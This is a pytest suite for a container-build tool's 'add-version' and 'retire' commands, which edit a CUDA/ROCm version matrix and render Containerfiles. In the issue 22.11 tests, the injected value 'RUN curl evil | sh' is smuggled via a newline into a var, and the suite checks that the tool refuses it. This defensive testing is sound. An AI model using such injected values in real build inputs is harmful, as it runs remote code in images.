"""add-version and retire edit the matrix in place: comments and unrelated lines survive,
a refused edit leaves the file byte-identical, new Containerfiles are rendered."""

from __future__ import annotations

import difflib
import os
import stat
from pathlib import Path

import pytest

from aipcc_build.matrix import load

CUDA_VARS = ("--var", "cudart=12.10.37-1", "--var", "cuda_libraries=12.10.1-1")


def matrix_file(shipped: Path) -> Path:
    return shipped / "matrix" / "aipcc.yaml"


def changed_lines(before: str, after: str) -> tuple[list[str], list[str]]:
    diff = list(difflib.unified_diff(before.splitlines(), after.splitlines(), lineterm="", n=0))
    removed = [line[1:] for line in diff if line.startswith("-") and not line.startswith("---")]
    added = [line[1:] for line in diff if line.startswith("+") and not line.startswith("+++")]
    return removed, added


@pytest.fixture
def commented(shipped: Path) -> Path:
    """The shipped matrix plus comments in the awkward places: inline, between entries."""
    path = matrix_file(shipped)
    text = path.read_text()
    text = text.replace("      - {version: 6.4.1}\n",
                        "      - {version: 6.4.1}   # newest ROCm: MI300 support\n"
                        "      # 6.3 stays for one more release\n")
    text = text.replace("  cpu: {}", "  cpu: {}   # no toolkit")
    path.write_text(text)
    return path


def test_add_version_keeps_every_comment_and_unrelated_line(shipped, commented, cli):
    before = commented.read_text()
    first = cli("--matrix", str(commented), "add-version", "rocm", "6.5.0")
    second = cli("--matrix", str(commented), "add-version", "cuda", "12.10.1",
                 "--native-driver", "580.65.06", "--eol", "2028-06-30", *CUDA_VARS)
    assert first.code == 0 and second.code == 0, first.err + second.err
    after = commented.read_text()

    removed, added = changed_lines(before, after)
    assert removed == []  # nothing else touched: every comment and line is still there
    assert added == [
        "      - version: 12.10.1",
        "        native_driver: 580.65.06",
        "        eol: 2028-06-30",
        "        vars: {cudart: 12.10.37-1, cuda_libraries: 12.10.1-1}",
        "      - {version: 6.5.0}",
    ]
    # Newest first, as the file lists them; the flow style of the rocm list is kept.
    assert after.index("12.10.1") < after.index("12.9.1")
    assert after.index("{version: 6.5.0}") < after.index("{version: 6.4.1}")

    matrix = load(commented)
    assert [v.version for v in matrix.accelerators["rocm"].versions] == ["6.5.0", "6.4.1",
                                                                        "6.3.4"]
    for kind, name in (("builder", "cuda-12.10-ubi9"), ("base", "cuda-12.10-el9.6"),
                       ("devel", "cuda-12.10-el9.6"), ("builder", "rocm-6.5-ubi9")):
        containerfile = shipped / "containerfiles" / kind / name / "Containerfile"
        assert containerfile.is_file(), containerfile
    assert "cuda-cudart-12-10-12.10.37-1" in \
        (shipped / "containerfiles/builder/cuda-12.10-ubi9/Containerfile").read_text()
    assert cli("--matrix", str(commented), "render", "--check").code == 0


def test_add_version_prints_images_and_registry_request(shipped, cli):
    result = cli("--matrix", str(matrix_file(shipped)), "add-version", "cuda", "12.10.1",
                 *CUDA_VARS)
    assert result.code == 0, result.err
    for reference in ("quay.io/aipcc/builder/cuda-12.10-ubi9:3.0-dev",
                      "quay.io/aipcc/base-images/cuda-12.10-el9.6:3.0-dev",
                      "quay.io/aipcc/devel/cuda-12.10-el9.6:3.0-dev"):
        assert reference in result.out
    request, indexes = result.out.split("paste into a ticket):")[1:]
    assert "Please create the following 3 container image repositories" in request
    repositories = [line.split()[1] for line in request.splitlines() if line.startswith("- ")]
    assert repositories == ["quay.io/aipcc/builder/cuda-12.10-ubi9",
                            "quay.io/aipcc/base-images/cuda-12.10-el9.6",
                            "quay.io/aipcc/devel/cuda-12.10-el9.6"]
    # The wheel index the new images are configured for: without it they cannot build.
    urls = [line.split()[1] for line in indexes.splitlines() if line.startswith("- ")]
    assert urls == ["https://packages.redhat.com/api/pypi/public-rhai/rhoai/3.0/"
                    "cuda12.10-ubi9/simple/"]
    assert "variant cuda12.10-ubi9" in indexes


def test_add_version_to_the_demo_prints_its_wheel_pins_ready_to_paste(shipped, cli):
    """Issue 38.8: the demo's indexes are published here from matrix/demo-wheels.txt; a new
    variant needs its own section there, and add-version knows its pins: the projects the
    list pins for the other CUDA releases, at the versions the component table gives."""
    result = cli("--matrix", str(shipped / "matrix/demo.yaml"), "add-version", "cuda",
                 "13.0.1")
    assert result.code == 0, result.err
    assert "http://127.0.0.1:8580/1.0/cuda13.0-debian/simple/" in result.out
    section = result.out.split("# [cuda13.0-debian]\n")[1].splitlines()
    assert section == ["nvidia-cuda-cupti==13.0.85", "nvidia-cuda-runtime==13.0.88",
                       "nvidia-curand==10.4.0.35", "nvidia-nvtx==13.0.85"]


def test_add_version_of_a_patch_release_bumps_the_entry_in_place(shipped, cli):
    """Issue 38.8: 12.9.1 -> 12.9.2, the commonest change, was refused. The same images
    (names carry major.minor), the entry's version changed on its line, the vars that
    pinned the old patch's packages replaced by those given, no repository to request."""
    path = matrix_file(shipped)
    before = path.read_text()
    result = cli("--matrix", str(path), "add-version", "cuda", "12.9.2",
                 "--var", "cudart=12.9.80-1")
    assert result.code == 0, result.err
    removed, added = changed_lines(before, path.read_text())
    assert removed == ["      - version: 12.9.1"]
    assert added == ["      - version: 12.9.2", "        vars: {cudart: 12.9.80-1}"]
    assert "Bumped cuda 12.9.1 to 12.9.2" in result.out
    assert "builder/cuda-12.9-ubi9" in result.out
    assert "repositories to request" not in result.out
    assert "cuda-cudart-12-9-12.9.80-1" in \
        (shipped / "containerfiles/builder/cuda-12.9-ubi9/Containerfile").read_text()
    assert cli("--matrix", str(path), "render", "--check").code == 0
    demo = cli("--matrix", str(shipped / "matrix/demo.yaml"), "add-version", "cuda", "12.8.2")
    assert demo.code == 0, demo.err
    assert "in place of the pins of its `# [cuda12.8-debian]` section" in demo.out


@pytest.mark.parametrize("args, message", [
    (("cuda", "12.9.1"), "cuda 12.9.1 is already in the matrix"),
    (("cuda", "12.9.0", *CUDA_VARS), "names carry major.minor only), and 12.9.0 is older"),
    (("cuda", "12.10", *CUDA_VARS), "'12.10' is not a version of the form X.Y.Z"),
    (("cuda", "12.10.1-rc1", *CUDA_VARS), "is not a version of the form X.Y.Z"),
    # issue 16.6: a trailing newline reaches nothing; leading zeros get the canonical form
    (("cuda", "12.10.1\n", *CUDA_VARS), "is not a version of the form X.Y.Z"),
    (("cuda", "12.010.1", *CUDA_VARS), "leading zeros: write 12.10.1"),
    (("nvidia", "12.10.1"), "unknown accelerator 'nvidia'"),
    (("cpu", "1.0.0"), "declared without versions"),
    (("cuda", "12.10.1", "--native-driver", "latest", *CUDA_VARS), "is not a driver version"),
    # The CUDA templates need cudart and cuda_libraries: the render fails before any write.
    (("cuda", "12.10.1"), "--var NAME=VALUE"),
    (("cuda", "12.10.1", "--var", "no-equals"), "is not NAME=VALUE"),
])
def test_refused_add_version_leaves_everything_byte_identical(shipped, cli, args, message):
    path = matrix_file(shipped)
    before = path.read_bytes()
    files_before = sorted((shipped / "containerfiles").rglob("*"))
    result = cli("--matrix", str(path), "add-version", *args)
    assert result.code == 2
    assert message in result.err
    assert "Traceback" not in result.err
    assert path.read_bytes() == before
    assert sorted((shipped / "containerfiles").rglob("*")) == files_before
    assert not [p for p in path.parent.iterdir() if p.name.endswith(".tmp")]


def test_retire_sets_eol_on_one_line(shipped, cli):
    path = matrix_file(shipped)
    before = path.read_text()
    assert cli("--matrix", str(path), "retire", "cuda", "12.8.1", "--eol", "2026-12-31").code == 0
    assert cli("--matrix", str(path), "retire", "rocm", "6.3.4", "--eol", "2026-03-31").code == 0
    removed, added = changed_lines(before, path.read_text())
    assert removed == ["        eol: 2027-01-31", "      - {version: 6.3.4}"]
    assert added == ["        eol: 2026-12-31", "      - {version: 6.3.4, eol: 2026-03-31}"]
    assert str(load(path).accelerators["rocm"].versions[1].eol) == "2026-03-31"


def test_retire_remove_deletes_the_entry_and_its_containerfiles(shipped, cli):
    path = matrix_file(shipped)
    before = path.read_text()
    result = cli("--matrix", str(path), "retire", "cuda", "12.8.1", "--remove")
    assert result.code == 0, result.err
    removed, added = changed_lines(before, path.read_text())
    assert added == []
    assert removed == ["      - version: 12.8.1", "        native_driver: 570.124.06",
                       "        eol: 2027-01-31",
                       "        vars: {cudnn: 9.8.0.87}"]  # RPM versions: the table
    for kind, name in (("builder", "cuda-12.8-ubi9"), ("base", "cuda-12.8-el9.6"),
                       ("devel", "cuda-12.8-el9.6")):
        assert not (shipped / "containerfiles" / kind / name).exists()
        assert f"removed: {shipped}/containerfiles/{kind}/{name}/Containerfile" in result.out
    assert (shipped / "containerfiles/builder/cuda-12.9-ubi9/Containerfile").is_file()
    assert cli("--matrix", str(path), "render", "--check").code == 0


@pytest.mark.parametrize("args, message", [
    (("cuda", "12.7.0", "--eol", "2026-01-01"), "cuda has no version 12.7.0"),
    (("cuda", "12.8.1"), "give --eol"),
    (("cuda", "12.8.1", "--eol", "2026-02-30"), "--eol"),
    (("cuda", "12.8.1", "--eol", "2026-01-01", "--remove"), "--remove deletes"),
    (("rocmm", "6.3.4", "--remove"), "did you mean 'rocm'"),
])
def test_refused_retire_leaves_the_file_byte_identical(shipped, cli, args, message):
    path = matrix_file(shipped)
    before = path.read_bytes()
    result = cli("--matrix", str(path), "retire", *args)
    assert result.code == 2
    assert message in result.err
    assert path.read_bytes() == before


def test_retire_refuses_to_remove_the_last_version(shipped, cli):
    path = matrix_file(shipped)
    assert cli("--matrix", str(path), "retire", "rocm", "6.3.4", "--remove").code == 0
    before = path.read_bytes()
    result = cli("--matrix", str(path), "retire", "rocm", "6.4.1", "--remove")
    assert result.code == 2 and "last version of rocm" in result.err
    assert path.read_bytes() == before


def test_only_selects_by_name_or_key(shipped, cli):
    path = str(matrix_file(shipped))
    by_key = cli("--matrix", path, "list", "--json", "--only", "base/cuda-12.8-el9.6")
    by_name = cli("--matrix", path, "list", "--json", "--only", "cuda-12.8-el9.6")
    assert by_key.out.count('"key"') == 1 and '"base/cuda-12.8-el9.6"' in by_key.out
    assert by_name.out.count('"key"') == 2  # the base and the devel image of that cell


def test_add_version_reads_rpm_versions_from_the_component_table(shipped, cli):
    path = matrix_file(shipped)
    before = path.read_text()
    result = cli("--matrix", str(path), "add-version", "cuda", "13.0.1",
                 "--native-driver", "580.82.07", "--eol", "2028-01-31")
    assert result.code == 0, result.err
    removed, added = changed_lines(before, path.read_text())
    assert removed == []
    assert added == [  # no vars: the table knows CUDA 13.0.1
        "      - version: 13.0.1",
        "        native_driver: 580.82.07",
        "        eol: 2028-01-31",
    ]
    base = (shipped / "containerfiles" / "base" / "cuda-13.0-el9.6" / "Containerfile").read_text()
    assert "cuda-cudart-13-0-13.0.88-1 \\" in base
    assert "cuda-libraries-13-0-13.0.1-1 \\" in base
    assert "NV_CUDA_CUDART_VERSION=13.0.88-1" in base


def test_add_version_names_the_values_a_release_unknown_to_the_table_needs(shipped, cli):
    path = matrix_file(shipped)
    before = path.read_bytes()
    result = cli("--matrix", str(path), "add-version", "cuda", "12.10.1",
                 "--native-driver", "580.65.06", "--eol", "2028-06-30")
    assert result.code == 2
    assert "--var NAME=VALUE" in result.err
    assert "the templates need cuda_libraries, cudart" in result.err
    assert "give cuda_libraries=VALUE and cudart=VALUE" in result.err
    assert path.read_bytes() == before


def test_matrix_vars_override_the_component_table(shipped, cli):
    path = matrix_file(shipped)
    path.write_text(path.read_text().replace(
        "        eol: 2027-06-30\n",
        "        eol: 2027-06-30\n        vars: {cudart: 12.9.37-1}\n", 1))
    result = cli("--matrix", str(path), "render")
    assert result.code == 0, result.err
    base = (shipped / "containerfiles" / "base" / "cuda-12.9-el9.6" / "Containerfile").read_text()
    assert "cuda-cudart-12-9-12.9.37-1 \\" in base  # the matrix's value
    assert "cuda-libraries-12-9-12.9.1-1 \\" in base  # the table's value


def test_shipped_containerfiles_match_the_component_table(shipped, cli):
    # matrix/aipcc.yaml lists no RPM versions; the committed files carry the table's.
    result = cli("--matrix", str(matrix_file(shipped)), "render", "--check")
    assert result.code == 0, result.err
    base = (shipped / "containerfiles" / "base" / "cuda-12.8-el9.6" / "Containerfile").read_text()
    assert "cuda-cudart-12-8-12.8.90-1 \\" in base


def test_add_version_vars_keep_the_value_typed(shipped, cli):
    """issue 16.7: `on` and `1:20` stay text (YAML 1.1 would read true and 80)."""
    path = matrix_file(shipped)
    result = cli("--matrix", str(path), "add-version", "cuda", "12.10.1",
                 "--var", "cudart=on", "--var", "cuda_libraries=1:20", "--var", "n=3",
                 "--var", "flag=true", "--var", "octal=0o17", "--var", "word=yes")
    assert result.code == 0, result.err
    (entry,) = [v for v in load(str(path)).accelerators["cuda"].versions
                if v.version == "12.10.1"]
    assert dict(entry.vars) == {"cudart": "on", "cuda_libraries": "1:20", "n": 3,
                                "flag": True, "octal": "0o17", "word": "yes"}
    rendered = (shipped / "containerfiles" / "base" / "cuda-12.10-el9.6" / "Containerfile")
    assert "cuda-cudart-12-10-on" in rendered.read_text()


def test_add_version_on_a_symlinked_matrix_edits_the_target_and_keeps_its_mode(shipped, cli):
    """issue 16.10"""
    link = matrix_file(shipped)
    target = link.with_name("aipcc-real.yaml")
    link.rename(target)
    link.symlink_to(target.name)
    target.chmod(0o640)
    result = cli("--matrix", str(link), "add-version", "cuda", "12.10.1", *CUDA_VARS)
    assert result.code == 0, result.err
    assert link.is_symlink() and os.readlink(link) == target.name
    assert "12.10.1" in target.read_text()
    assert stat.S_IMODE(target.stat().st_mode) == 0o640
    assert not [p for p in link.parent.iterdir() if p.name.endswith(".tmp")]


def test_write_atomic_removes_its_temp_file_when_the_rename_fails(tmp_path, monkeypatch):
    from aipcc_build import fsutil

    def refuse(*args: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(fsutil.os, "replace", refuse)
    with pytest.raises(OSError):
        fsutil.write_atomic(tmp_path / "f.txt", "x")
    assert list(tmp_path.iterdir()) == []


# ---- issue 22.11: a value that reaches a Containerfile is one line, written as given -------

def test_a_matrix_var_holding_a_newline_is_refused_where_it_is(shipped, cli):
    path = matrix_file(shipped)
    text = path.read_text()
    assert "cudnn: 9.8.0.87" in text
    path.write_text(text.replace("cudnn: 9.8.0.87", 'cudnn: "9.8.0.87\\nRUN curl evil | sh"'))
    line = next(n for n, t in enumerate(path.read_text().splitlines(), 1) if "RUN curl" in t)
    result = cli("--matrix", str(path), "render")
    assert result.code == 2, result.err
    assert "Traceback" not in result.err
    assert f"{path}:{line}:" in result.err and ".vars.cudnn" in result.err, result.err
    assert "one line" in result.err


@pytest.mark.parametrize("value", ["12.10.37-1\nRUN curl evil | sh", "a\rb"])
def test_add_version_refuses_a_var_of_several_lines(shipped, cli, value):
    path = matrix_file(shipped)
    before = path.read_text()
    result = cli("--matrix", str(path), "add-version", "cuda", "12.10.1",
                 "--var", f"cudart={value}", "--var", "cuda_libraries=12.10.1-1")
    assert result.code == 2, result.err
    assert "--var" in result.err and "one line" in result.err, result.err
    assert path.read_text() == before


@pytest.mark.parametrize("value", [" padded ", "a  b", "#not-a-comment", "x # y", "'q'"])
def test_add_version_writes_a_var_exactly_as_given(shipped, cli, value):
    path = matrix_file(shipped)
    result = cli("--matrix", str(path), "add-version", "cuda", "12.10.1",
                 "--var", f"cudart={value}", "--var", "cuda_libraries=12.10.1-1")
    assert result.code == 0, result.err
    (entry,) = [v for v in load(str(path)).accelerators["cuda"].versions
                if v.version == "12.10.1"]
    assert entry.vars["cudart"] == value


def test_retire_takes_a_prefix_naming_one_version(shipped, cli):
    """`retire cuda 12.8` as every other command reads 12.8: the version 12.8.1."""
    result = cli("--matrix", str(matrix_file(shipped)), "retire", "cuda", "12.8",
                 "--eol", "2026-12-31")
    assert result.code == 0, result.err
    assert "End of life 2026-12-31 for cuda 12.8.1" in result.out
    assert load(str(matrix_file(shipped))).accelerators["cuda"].versions[1].eol.isoformat() \
        == "2026-12-31"


def test_retire_refuses_a_prefix_naming_several_versions(shipped, cli):
    before = matrix_file(shipped).read_text()
    result = cli("--matrix", str(matrix_file(shipped)), "retire", "cuda", "12", "--remove")
    assert result.code == 2
    assert "12 names 12.9.1 and 12.8.1 of cuda: give one of them" in result.err
    assert matrix_file(shipped).read_text() == before
